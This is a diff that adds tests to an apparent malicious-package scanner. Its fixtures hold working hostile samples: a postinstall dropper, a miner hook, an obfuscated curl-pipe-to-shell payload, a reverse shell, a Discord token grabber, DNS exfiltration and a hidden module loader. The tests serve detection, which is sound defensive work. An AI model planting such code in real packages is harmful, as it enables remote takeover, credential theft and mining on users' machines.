@@ -332,3 +332,128 @@ def test_code_downloaded_then_evaluated_blocks(tmp_path: Path) -> None:
         'new Function("require", src)(require);\n'
     )
     assert _mcp(tmp_path, "index.js", code)["verdict"]["decision"] == "BLOCK"
+
+
+def _package(tmp_path: Path, name: str, files: dict[str, str]) -> dict[str, Any]:
+    art = tmp_path / name
+    for rel, text in files.items():
+        (art / rel).parent.mkdir(parents=True, exist_ok=True)
+        (art / rel).write_text(text)
+    (tmp_path / f"{name}-run").mkdir()
+    return _run("packages", art, tmp_path / f"{name}-run")
+
+
+def _decision(report: dict[str, Any]) -> str:
+    decision: str = report["verdict"]["decision"]
+    return decision
+
+
+INSTALLER = (
+    "const https = require('https');\nconst fs = require('fs');\n"
+    "const { execFileSync } = require('child_process');\n"
+    "const dest = __dirname + '/bin/tool';\n"
+    "https.get(URL, (res) => {\n  res.pipe(fs.createWriteStream(dest)).on('finish', () => {\n"
+    "    VERIFY\n    fs.chmodSync(dest, 0o755);\n    execFileSync(dest, ['--version']);\n"
+    "  });\n});\n"
+)
+
+
+def test_a_second_stage_from_a_raw_ip_blocks_and_a_checked_release_binary_does_not(
+    tmp_path: Path,
+) -> None:
+    manifest = '{"name": "toolwrap", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}'
+    dropper = INSTALLER.replace("URL", "'http://203.0.113.9/x'").replace("VERIFY", "")
+    report = _package(tmp_path, "dropper", {"package.json": manifest, "i.js": dropper})
+    assert _decision(report) == "BLOCK"
+    assert "remote_code_execution" in {f["category"] for f in report["findings"]}
+    release = INSTALLER.replace(
+        "URL", "`https://github.com/toolwrap/toolwrap/releases/download/v1.0.0/tool`"
+    ).replace("VERIFY", "if (sha256(dest) !== PINNED) throw new Error('checksum');")
+    assert _decision(
+        _package(tmp_path, "release", {"package.json": manifest, "i.js": release})
+    ) == ("ALLOW")
+
+
+def test_a_miner_started_at_install_blocks(tmp_path: Path) -> None:
+    hook = (
+        "require('child_process').execSync("
+        "'./bin/helper -o stratum+tcp://pool.example.org:3333 -u WALLET --donate-level=1');\n"
+    )
+    manifest = '{"name": "fmt-helper", "version": "2.0.0", "scripts": {"install": "node m.js"}}'
+    report = _package(tmp_path, "miner", {"package.json": manifest, "m.js": hook})
+    assert _decision(report) == "BLOCK"
+    assert "cryptomining" in {f["category"] for f in report["findings"]}
+
+
+def test_exec_through_builtins_padded_off_screen_blocks(tmp_path: Path) -> None:
+    payload = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cHM6Ly9leGFtcGxlLmludmFsaWQvcyB8IHNoIik="
+    line = (
+        "VERSION = '1.0'"
+        + " " * 200
+        + f";__import__('builtins').exec(__import__('base64').b64decode('{payload}'))\n"
+    )
+    report = _package(
+        tmp_path, "padded", {"pyproject.toml": '[project]\nname = "x-y"\n', "x_y/__init__.py": line}
+    )
+    assert _decision(report) == "BLOCK"
+    assert "obfuscation" in {f["category"] for f in report["findings"]}
+
+
+def test_a_shell_wired_to_a_socket_blocks_but_a_download_piped_into_tar_does_not(
+    tmp_path: Path,
+) -> None:
+    shell = (
+        "const net = require('net');\nconst { spawn } = require('child_process');\n"
+        "const c = new net.Socket();\nc.connect(4444, 'example.org', () => {\n"
+        "  const p = spawn('/bin/sh', []);\n  c.pipe(p.stdin);\n  p.stdout.pipe(c);\n});\n"
+    )
+    assert _decision(_package(tmp_path, "rsh", {"index.js": shell})) == "BLOCK"
+    untar = (
+        "const https = require('https');\nconst { spawn } = require('child_process');\n"
+        "https.get('https://registry.npmjs.org/x/-/x-1.0.0.tgz', (res) => {\n"
+        "  const tar = spawn('tar', ['xz', '-C', __dirname]);\n  res.pipe(tar.stdin);\n});\n"
+    )
+    assert _decision(_package(tmp_path, "untar", {"index.js": untar})) == "ALLOW"
+
+
+def test_a_pth_hook_that_imports_its_own_shim_is_allowed_and_one_that_decodes_blocks(
+    tmp_path: Path,
+) -> None:
+    shim = "import os; enabled = os.environ.get('X', 'local') == 'local'; enabled and __import__('_x').add_shim();\n"
+    assert _decision(_package(tmp_path, "shim", {"x.pth": shim, "_x/__init__.py": ""})) == "ALLOW"
+    hidden = "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
+    assert _decision(_package(tmp_path, "hidden", {"x.pth": hidden})) == "BLOCK"
+
+
+def test_harvesting_messenger_token_stores_to_a_webhook_blocks(tmp_path: Path) -> None:
+    grabber = (
+        "import os, requests\n\nHOOK = 'https://discord.com/api/webhooks/1/abc'\n\n"
+        "def stores():\n    base = os.getenv('APPDATA', '')\n"
+        "    return [\n        os.path.join(base, 'discord', 'Local Storage', 'leveldb'),\n    ]\n\n"
+        "def run():\n    for s in stores():\n        for n in os.listdir(s):\n"
+        "            requests.post(HOOK, data=open(os.path.join(s, n), 'rb').read())\n"
+    )
+    report = _package(tmp_path, "grab", {"g/__init__.py": grabber})
+    assert _decision(report) == "BLOCK"
+    assert "credential_theft" in {f["category"] for f in report["findings"]}
+
+
+def test_data_carried_in_built_dns_names_blocks_and_a_plain_lookup_does_not(
+    tmp_path: Path,
+) -> None:
+    exfil = (
+        "import socket, getpass\n\ndef beacon():\n    data = getpass.getuser().encode().hex()\n"
+        "    socket.gethostbyname(data + '.t.example.org')\n"
+    )
+    assert _decision(_package(tmp_path, "dns", {"d/__init__.py": exfil})) == "BLOCK"
+    plain = "import socket\n\ndef resolve(host):\n    return socket.gethostbyname(host)\n"
+    assert _decision(_package(tmp_path, "plain", {"d/__init__.py": plain})) == "ALLOW"
+
+
+def test_a_decoded_string_compiled_as_a_module_blocks(tmp_path: Path) -> None:
+    loader = (
+        "const d = (s) => Buffer.from(s, 'hex').toString();\n"
+        "const m = new module.constructor();\nm.paths = module.paths;\n"
+        "m._compile(d(process.env.npm_package_description || ''), '');\n"
+    )
+    assert _decision(_package(tmp_path, "mod", {"index.js": loader})) == "BLOCK"
